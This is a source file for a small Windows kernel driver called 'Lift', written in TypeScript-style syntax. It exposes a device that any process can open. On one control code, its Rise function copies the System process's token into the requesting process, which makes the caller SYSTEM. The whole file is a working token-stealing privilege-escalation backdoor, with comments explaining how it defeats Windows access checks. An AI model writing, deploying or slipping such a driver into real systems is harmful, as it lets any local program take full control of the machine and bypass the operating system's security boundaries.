/*
 * Lift: gives the program that asks the token of System.
 *
 * Who a process is stands in one field of its EPROCESS, Token. At every access check Windows looks
 * there. The driver copies that field from the process System to the one that sent the request: from
 * then on it is SYSTEM, in the middle of its work, and nobody logged on.
 */
import {
  CTL_CODE,
  DbgPrint,
  EPROCESS,
  FALSE,
  FILE_ANY_ACCESS,
  FILE_DEVICE_SECURE_OPEN,
  FILE_DEVICE_UNKNOWN,
  IO_NO_INCREMENT,
  IRP_MJ_CLOSE,
  IRP_MJ_CREATE,
  IRP_MJ_DEVICE_CONTROL,
  IoCompleteRequest,
  IoCreateDevice,
  IoCreateSymbolicLink,
  IoDeleteDevice,
  IoDeleteSymbolicLink,
  IoGetCurrentIrpStackLocation,
  METHOD_BUFFERED,
  MmGetSystemRoutineAddress,
  NT_SUCCESS,
  PsGetCurrentProcess,
  PsGetCurrentProcessId,
  RTL_CONSTANT_STRING,
  STATUS_INVALID_DEVICE_REQUEST,
  STATUS_SUCCESS,
  cast,
  out,
} from 'wdm'
import type { DEVICE_OBJECT, DRIVER_OBJECT, IRP, ULONG, UNICODE_STRING, NTSTATUS } from 'wdm'

const IOCTL_RISE = CTL_CODE(FILE_DEVICE_UNKNOWN, 0x800, METHOD_BUFFERED, FILE_ANY_ACCESS)
const DeviceName = RTL_CONSTANT_STRING('\\Device\\Lift')
const LinkName = RTL_CONSTANT_STRING('\\??\\Lift')

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  DriverObject.MajorFunction[IRP_MJ_CREATE] = LiftCreateClose
  DriverObject.MajorFunction[IRP_MJ_CLOSE] = LiftCreateClose
  DriverObject.MajorFunction[IRP_MJ_DEVICE_CONTROL] = LiftDeviceControl
  DriverObject.DriverUnload = LiftUnload
  const device = out<DEVICE_OBJECT>()
  let status = IoCreateDevice(
    DriverObject,
    0,
    DeviceName,
    FILE_DEVICE_UNKNOWN,
    FILE_DEVICE_SECURE_OPEN,
    FALSE,
    device,
  )
  if (!NT_SUCCESS(status)) return status
  status = IoCreateSymbolicLink(LinkName, DeviceName)
  if (!NT_SUCCESS(status)) IoDeleteDevice(device.value)
  return status
}

/** Make the process that asks what System is. */
function Rise(): NTSTATUS {
  // The kernel exports the variable, not what it holds: one step to the process.
  const variable = MmGetSystemRoutineAddress(RTL_CONSTANT_STRING('PsInitialSystemProcess'))
  const system = cast(EPROCESS, variable.u64[0])
  const process = PsGetCurrentProcess()
  // An EX_FAST_REF: the low four bits count references that the kernel keeps at hand. They are no
  // part of the address, and those of System are not ours to take; with none the kernel counts slowly.
  process.Token.Value = system.Token.Value & ~0xfn
  DbgPrint('Lift: process %u is SYSTEM now\n', PsGetCurrentProcessId())
  return STATUS_SUCCESS
}

function LiftDeviceControl(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  const request = IoGetCurrentIrpStackLocation(Irp).Parameters.DeviceIoControl
  if (request.IoControlCode !== IOCTL_RISE) return Complete(Irp, STATUS_INVALID_DEVICE_REQUEST, 0)
  return Complete(Irp, Rise(), 0)
}

function LiftCreateClose(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  return Complete(Irp, STATUS_SUCCESS, 0)
}

function Complete(Irp: IRP, Status: NTSTATUS, Information: ULONG): NTSTATUS {
  Irp.IoStatus.Status = Status
  Irp.IoStatus.Information = Information
  IoCompleteRequest(Irp, IO_NO_INCREMENT)
  return Status
}

function LiftUnload(DriverObject: DRIVER_OBJECT): void {
  IoDeleteSymbolicLink(LinkName)
  IoDeleteDevice(DriverObject.DeviceObject)
}
